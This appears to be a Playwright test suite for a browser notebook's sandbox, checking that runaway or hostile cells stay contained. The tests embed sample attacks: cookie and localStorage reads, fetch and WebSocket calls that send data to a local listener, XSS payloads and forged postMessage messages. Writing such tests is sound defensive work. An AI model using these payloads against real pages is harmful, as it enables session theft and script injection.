// Cells that mean harm, or only run away: the page stays usable, the other cells work, nothing leaks.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import {
  cellOf,
  expectAlive,
  failureOf,
  GALLERY,
  outputOf,
  run,
  runAndSettle,
  settled,
  statusOf,
  tryCode,
  write,
} from './notebook.ts';

test.beforeEach(async ({ page }) => {
  await page.goto(GALLERY);
});

for (const [name, code] of [
  ['endless loop', 'while (true);'],
  ['endless loop that never rests', 'while (true) await null'],
  ['endless loop that rests', 'while (true) await new Promise((done) => setTimeout(done, 1))'],
  ['promise that never comes', 'await new Promise(() => {})'],
  ['endless loop that shows', 'while (true) display(Math.random())'],
  ['endless console', "while (true) console.log('x'.repeat(10000))"],
] as const)
  test(`Stop ends an ${name}`, async ({ page }) => {
    await write(page, 'scratch', code);
    await run(page, 'scratch');
    const stop = cellOf(page, 'scratch').locator('[data-action=stop]');
    await stop.click();
    await expect(statusOf(page, 'scratch')).toHaveText('Stopped.');
    await expect(cellOf(page, 'scratch').locator('.cm-content')).toHaveText(code);
    await expectAlive(page);
  });

test('a cell without a sign of life is ended and said so', async ({ page }) => {
  await page.evaluate(() => (document.documentElement.dataset.cellPatience = '2'));
  await write(page, 'scratch', 'while (true);');
  await run(page, 'scratch');
  await expect(failureOf(page, 'scratch')).toContainText('gave no sign of life', {
    timeout: 12_000,
  });
  await expectAlive(page);
});

test('a gigabyte of output is cut', async ({ page }) => {
  await tryCode(
    page,
    "const piece = 'x'.repeat(2 ** 24)\nfor (let i = 0; i < 64; i++) display(piece)\ndisplay(Array.from({ length: 1e6 }, (_, i) => i))\nconsole.log(piece)",
  );
  expect((await outputOf(page, 'scratch').innerText()).length).toBeLessThan(2_000_000);
  await expectAlive(page);
});

test('ten thousand outputs are cut and counted', async ({ page }) => {
  await tryCode(page, 'for (let i = 0; i < 10000; i++) display(i)');
  await expect(outputOf(page, 'scratch').locator('.out').last()).toContainText('not shown');
  expect(await outputOf(page, 'scratch').locator('.out').count()).toBeLessThan(300);
  await expectAlive(page);
});

test('endless recursion and endless memory are survived', async ({ page }) => {
  test.slow();
  await tryCode(page, 'const f = () => f()\nf()');
  await expect(failureOf(page, 'scratch')).toContainText('calls itself without end');
  await write(
    page,
    'scratch',
    'const all = []\nwhile (true) all.push(new Float64Array(2 ** 24).fill(1))',
  );
  await run(page, 'scratch');
  await settled(page, 'scratch', 40_000);
  await expect(failureOf(page, 'scratch')).toBeVisible();
  await expectAlive(page);
});

test('storage, cookies, the page, the network and other workers are out of reach', async ({
  page,
  context,
}) => {
  await context.addCookies([{ name: 'secret', value: 'one', url: page.url() }]);
  await page.evaluate(() => localStorage.setItem('secret', 'two'));
  // Somebody who listens outside.
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url!);
    response.setHeader('Access-Control-Allow-Origin', '*').end('1');
  }).listen(0);
  const outside = `http://localhost:${(server.address() as AddressInfo).port}`;
  await tryCode(
    page,
    `const attempts: Record<string, () => unknown> = {
  storage: () => localStorage.getItem('secret'),
  cookies: () => (globalThis as any).document.cookie,
  parent: () => (globalThis as any).parent.document.title,
  opener: () => (globalThis as any).opener.location,
  database: () => indexedDB.open('downhill').result,
  fetch: () => fetch('${outside}/leak'),
  fetchHere: () => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, '${outside}/leak2'),
  request: () => { const one = new XMLHttpRequest(); one.open('GET', '${outside}/leak3', false); one.send(); return one.responseText },
  socket: () => new WebSocket('${outside.replace('http', 'ws')}/leak4').url,
  scripts: () => importScripts('${outside}/leak5.js'),
  module: () => import('${outside}/leak6.js'),
  worker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
  channel: () => new BroadcastChannel('downhill').name,
  caches: () => caches.keys(),
}
for (const name in attempts) {
  let result = 'blocked'
  try {
    const value = await attempts[name]()
    if (value !== undefined) result = 'REACHED ' + String(value)
  } catch {}
  display(name + ': ' + result)
}`,
  );
  await expect(failureOf(page, 'scratch')).toHaveCount(0);
  const text = await outputOf(page, 'scratch').innerText();
  expect(text.match(/: blocked/g)).toHaveLength(14);
  expect(text).not.toContain('REACHED');
  expect(heard).toEqual([]);
  server.close();
});

test('forged messages change nothing outside the outputs', async ({ page }) => {
  const before = await page.locator('h1').innerText();
  await tryCode(
    page,
    `const real = MessagePort.prototype.postMessage
MessagePort.prototype.postMessage = function (...inputs) { (globalThis as any).caught = this; return real.apply(this, inputs as any) }
for (const forged of [
  { type: 'output', cell: 'scratch', at: 0, tree: { tag: 'img', attrs: { src: 'x', onerror: 'document.title = "hacked"' } } },
  { type: 'output', cell: 'main', at: 0, tree: { tag: 'script', children: ['document.title = "hacked"'] } },
  { type: 'output', cell: 'scratch', at: 0, tree: { tag: 'div', attrs: { style: 'position:fixed;inset:0;background:url(https://example.org/x)', id: 'main' }, children: [{ tag: 'style', children: ['*{display:none}'] }] } },
  { type: 'end', cell: '__proto__', values: { constructor: 1 } },
  { type: 'constructor' }, { type: '__proto__' }, [], null, 7, 'x'.repeat(100000),
]) {
  try { self.postMessage(forged) } catch {}
  try { (globalThis as any).caught.postMessage(JSON.stringify(forged)) } catch {}
  try { (globalThis as any).parent.postMessage(forged, '*') } catch {}
}
await new Promise((done) => setTimeout(done, 300))`,
  );
  expect(await page.title()).not.toContain('hacked');
  expect(await page.locator('h1').innerText()).toBe(before);
  await expect(
    outputOf(page, 'scratch').locator('img, script, style, [onerror], #main'),
  ).toHaveCount(0);
  await expectAlive(page);
});

test('markup in an output is text, and elements made by hand are cut to what is allowed', async ({
  page,
}) => {
  await tryCode(
    page,
    `display('<img src=x onerror="document.title=1"><script>document.title=1</script>')
const figure: any = Plot.plot({ marks: [Plot.text(['<b>bold</b>'])] })
const bad = (name: string, attributes: Record<string, string>) => { const one = figure.ownerDocument.createElement(name); for (const key in attributes) one.setAttribute(key, attributes[key]); figure.append(one) }
bad('script', { src: 'https://example.org/x.js' })
bad('iframe', { srcdoc: '<script>parent.document.title=1</script>' })
bad('a', { href: 'javascript:alert(1)' })
bad('image', { href: 'https://example.org/x.png', onload: 'alert(1)' })
bad('style', {})
bad('g', { style: 'fill: url(https://example.org/y.svg#a); color: red', onclick: 'alert(1)', id: 'main' })
bad('foreignObject', {})
display(figure)`,
  );
  await expect(outputOf(page, 'scratch').locator('.out-text')).toContainText('<img src=x');
  const svg = outputOf(page, 'scratch').locator('svg');
  await expect(svg).toBeVisible();
  await expect(
    svg.locator(
      'script, iframe, a, style, foreignObject, [onclick], [onload], [href^=http], [href^=javascript]',
    ),
  ).toHaveCount(0);
  expect(await page.locator('#main').count()).toBe(1);
  expect(await svg.evaluate((one) => one.outerHTML)).not.toContain('example.org');
});

test('changing built-in objects starts the notebook afresh', async ({ page }) => {
  await tryCode(
    page,
    "Array.prototype.map = () => ['gotcha'] as any\nObject.prototype.toString = () => 'gotcha'",
  );
  await expect(failureOf(page, 'scratch')).toContainText('changed built-in objects');
  await expectAlive(page);
  await runAndSettle(page, 'plot');
  await expect(outputOf(page, 'plot').locator('svg')).toBeVisible();
});

test('other cells keep what they showed when one is ended', async ({ page }) => {
  const before = await outputOf(page, 'kinds').innerHTML();
  await write(page, 'scratch', 'while (true);');
  await run(page, 'scratch');
  await cellOf(page, 'scratch').locator('[data-action=stop]').click();
  await expect(statusOf(page, 'scratch')).toHaveText('Stopped.');
  expect(await outputOf(page, 'kinds').innerHTML()).toBe(before);
  await runAndSettle(page, 'train');
  await expect(statusOf(page, 'train')).toHaveText(/^ran in/);
});
